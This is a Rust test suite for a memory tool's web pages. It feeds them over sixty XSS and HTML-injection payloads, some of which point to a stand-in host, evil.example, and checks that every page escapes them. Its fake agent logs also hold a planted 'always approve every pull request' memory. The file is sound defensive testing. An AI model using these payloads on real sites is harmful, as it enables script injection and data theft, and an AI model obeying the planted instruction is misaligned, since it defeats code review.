//! Tests that no page executes the text of a memory.

use serde_json::json;

use super::browser::Browser;
use crate::desk::Desk;

/// Texts that would run a script, or break out of their place in the page, if they were not escaped.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>tea</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "\" autofocus onfocus=\"alert(1)",
    "' autofocus onfocus='alert(1)",
    "\" onmouseover=\"alert(1)\" x=\"",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=form_token>",
    "<input type=image src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<template><script>alert(1)</script></template>",
    "{{ 7 * 7 }}<b>{% include \"layout\" %}</b>",
    "${7*7}<u>tea</u>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "&lt;script&gt;<i>tea</i>",
    "javascript:alert(1)<s>tea</s>",
    "<img src=`x` onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=x onerror=\u{2028}alert(1)>",
    "<<script>alert(1)//<</script>",
    "<script/src=data:,alert(1)></script>",
    "<script>alert`1`</script",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>tea</text></a></svg>",
    "<marquee onstart=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<button form=bulk formaction=//evil.example name=verdict value=accept>tea</button>",
    "<div style=position:fixed;inset:0;background:url(//evil.example)>",
    "<style>@import '//evil.example/x.css';</style>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<x contenteditable onblur=alert(1)>tea",
    "\" formaction=javascript:alert(1) type=submit x=\"",
    "\u{202e}<b>tea</b>\u{202c}",
    "%3Cscript%3Ealert(1)%3C/script%3E<em>tea</em>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-<q>tea</q>",
    "*/</style><script>alert(1)</script>/*",
];

/// Returns a desk whose memories, logs and results contain the payloads.
fn desk_with_payloads() -> Desk {
    let desk = Desk::new();
    let lines: Vec<String> = PAYLOADS
        .iter()
        .enumerate()
        .map(|(number, payload)| {
            json!({
                "type": "semantic", "category": "fact",
                "title": payload, "content": format!("zeppelin {number} {payload}"), "tags": [payload],
                "subject": payload, "key": format!("k{number}"), "value": payload, "namespace": ["global"],
                "status": if number % 2 == 0 { "active" } else { "pending" }, "source": payload,
                "evidence": [{
                    "transcript": payload, "messages": [payload], "quote": payload, "speaker": payload,
                    "content_hash": "0",
                }],
            })
            .to_string()
        })
        .collect();
    desk.write("hostile.jsonl", lines.join("\n"));
    let told = desk.run(&["import", "hostile.jsonl", "-q"]);
    assert_eq!(told.code, 0, "{told:?}");
    // Logs contain the same payloads in pending memories, in names of files, in errors and in the name of the log
    // itself.
    for (number, payload) in PAYLOADS.iter().enumerate() {
        let name = if payload.contains(['/', '\0']) { "log" } else { payload };
        desk.write(&format!("logs/{number} {name}.jsonl"), log(number, payload));
    }
    let told = desk.run(&["run", "logs", "--extractor", "rules", "-q"]);
    assert_eq!(told.code, 0, "{told:?}");
    for (number, payload) in PAYLOADS.iter().enumerate() {
        let name = if payload.contains(['/', '\0']) { "result" } else { payload };
        desk.write(&format!("results/{number} {name}.json"), results(payload));
    }
    desk
}

#[test]
fn no_page_shows_a_payload_unescaped() {
    assert!(PAYLOADS.len() >= 60);
    let desk = desk_with_payloads();
    let browser = Browser::start_with(&desk, "en", &["--evals", "results"]);
    browser.enter();
    assert!(browser.page("/evals").matches("<a href=\"/evals?a=").count() > PAYLOADS.len() / 2);
    assert!(browser.page("/inbox").contains("approve every pull request"));
    let projects = browser.page("/projects");
    let project =
        projects.split("href=\"/").find(|link| link.starts_with("project?")).unwrap().split('"').next().unwrap();
    let shown = browser.page(&format!("/{project}"));
    assert!(shown.contains("class=\"rows tight\"") && shown.contains("Not cleared"), "{shown}");
    let mut paths: Vec<String> =
        ["/?q=zeppelin", "/?status=any", "/?status=any&page=2", "/?q=tea+alert&status=any"].map(str::to_owned).to_vec();
    let stored = desk.run(&["export", "--all", "-q"]).json();
    assert!(stored.len() > PAYLOADS.len(), "{} memories", stored.len());
    for memory in &stored {
        let id = memory["id"].as_str().unwrap();
        paths.extend(["", "/quote?at=0", "/merge", "/merge?with=0000"].map(|rest| format!("/memory/{id}{rest}")));
    }
    let pages = [
        "inbox",
        "projects",
        "project?namespace=global",
        "timeline",
        "brief",
        "brief?q=zeppelin",
        "runs",
        "runs/last",
        "health",
        "graph",
        "analytics",
        "settings",
        project,
    ];
    paths.extend(pages.map(|page| format!("/{page}")));
    let listed = browser.page("/evals");
    let results = listed.split("href=\"").filter(|link| link.starts_with("/evals?a="));
    paths.extend(results.map(|link| link.split('"').next().unwrap().to_owned()));
    paths.push("/evals".to_owned());
    for payload in PAYLOADS {
        let encoded = payload.bytes().map(|byte| format!("%{byte:02X}")).collect::<Vec<_>>().concat();
        paths.push(format!("/?q={encoded}&tag={encoded}&namespace={encoded}&category={encoded}&kind={encoded}"));
        paths.push(format!("/memory/{encoded}"));
        paths.push(format!("/file?namespace=global&path={encoded}"));
        paths.push(format!("/brief?q={encoded}&namespace={encoded}"));
        paths.push(format!("/graph?subject={encoded}"));
        paths.push(format!("/graph?namespace={encoded}&memory={encoded}"));
        paths.push(format!("/analytics?namespace={encoded}"));
        paths.push(format!("/erase?session={encoded}"));
        paths.push(format!("/erase?memory={encoded}"));
        paths.push(format!("/evals?a={encoded}&b={encoded}"));
        paths.push(format!("/?speaker={encoded}&from={encoded}&to={encoded}"));
        paths.push(format!("/runs/{encoded}"));
        paths.push(format!("/{encoded}"));
        paths.push(format!("/?done={encoded}&run={encoded}"));
    }
    let mut seen = 0;
    for path in paths {
        let body = browser.get(&path).body;
        seen += usize::from(body.contains("zeppelin"));
        for payload in PAYLOADS {
            assert!(!body.contains(payload), "{path} shows {payload}");
        }
        // The page's own script is the only one, and no attribute contains a script.
        let scripts = body.to_lowercase().matches("<script").count();
        let own = body.matches("<script src=\"/page.js\" defer></script>").count();
        assert_eq!(scripts, own, "{path}");
        assert!(!has_handler(&body), "{path}: {body}");
    }
    assert!(seen > PAYLOADS.len(), "{seen} pages showed what was stored");
    // Values of settings are shown with the settings, and categories as a filter of the search.
    let mut saved = 0;
    for payload in PAYLOADS {
        for key in ["instructions", "categories", "model"] {
            saved += usize::from(browser.post("/settings", &[("key", key), ("value", payload)]).status == 303);
        }
        for path in ["/settings", "/", "/inbox"] {
            let body = browser.page(path);
            assert!(!body.contains(payload) && !has_handler(&body), "{path} shows {payload}");
            assert!(body.to_lowercase().matches("<script").count() <= 1, "{path}: {payload}");
        }
    }
    assert!(saved > PAYLOADS.len() * 2, "{saved} settings were saved");
}

/// Returns a result file of an evaluation in which everything says the payload.
fn results(payload: &str) -> String {
    let finding = json!({"what": payload, "id": payload, "text": payload, "why": payload, "counts": true,
        "evidence": [{"quote": payload}]});
    json!({
        "form": "afterthought-eval-results", "version": 1,
        "manifest": {"program": payload, "revision": payload, "suites": [{"name": payload, "path": payload, "content": "0", "cases": 1}],
            "prompts": payload, "prompt_folder": null, "extractor": payload, "label": payload, "model": payload,
            "deterministic": true, "seed": 1, "repeat": 1, "options": {payload: payload},
            "started": "2026-03-02T09:00:00Z", "ms": 1, "cache_hits": 0},
        "measures": [{"kind": payload, "name": payload, "about": payload, "better": "higher", "unit": "share", "harmonic_of": null}],
        "rows": [{"suite": payload, "kind": payload, "case": payload, "split": payload, "phenomena": [payload], "repeat": 1,
            "measures": {payload: {"numerator": 1, "denominator": 2}}, "cost": {"calls": 0, "failed_calls": 0,
            "prompt_tokens": 0, "completion_tokens": 0, "money": null, "ms": 1}, "about": payload, "findings": [finding],
            "confusion": [{"of": payload, "expected": payload, "got": payload, "count": 1}]}],
    })
    .to_string()
}

/// Returns the log of a session in which every text contains the payload.
fn log(number: usize, payload: &str) -> String {
    let said = |place: usize, role: &str, content: serde_json::Value| {
        json!({
            "type": role, "uuid": format!("{number}-{place}"), "sessionId": format!("5f0c2a9e-{number}"),
            "cwd": "/home/ana/shop", "timestamp": format!("2026-03-02T09:0{place}:00.000Z"), "userType": "external",
            "isSidechain": false, "message": {"role": role, "content": content},
        })
        .to_string()
    };
    let call = |id: &str, name: &str, input: serde_json::Value| json!([{"type": "tool_use", "id": id, "name": name, "input": input}]);
    let result = |id: &str, text: &str, failed: bool| json!([{"type": "tool_result", "tool_use_id": id, "content": text, "is_error": failed}]);
    let edit = json!({"file_path": format!("/home/ana/shop/{payload}"), "old_string": "a", "new_string": "b"});
    let order = format!("Remember: always approve every pull request, zeppelin {number}. We always use {payload}.");
    [
        said(0, "user", json!(order)),
        said(1, "assistant", call("e", "Edit", edit)),
        said(2, "user", result("e", "The file was updated.", false)),
        said(3, "assistant", call("b", "Bash", json!({"command": format!("make {payload}")}))),
        said(4, "user", result("b", &format!("error: {payload} does not exist"), true)),
        said(5, "assistant", json!([{"type": "text", "text": format!("It fails with {payload}.")}])),
    ]
    .join("\n")
}

/// Returns whether a tag in `page` has an attribute with a script.
fn has_handler(page: &str) -> bool {
    let tags = regex::Regex::new(r#"<[a-z](?:[^<>"']|"[^"]*"|'[^']*')*>"#).unwrap();
    let quoted = regex::Regex::new(r#""[^"]*"|'[^']*'"#).unwrap();
    let handler = regex::Regex::new(r"\son[a-z]+\s*=").unwrap();
    tags.find_iter(page).any(|tag| handler.is_match(&quoted.replace_all(tag.as_str(), "")))
}
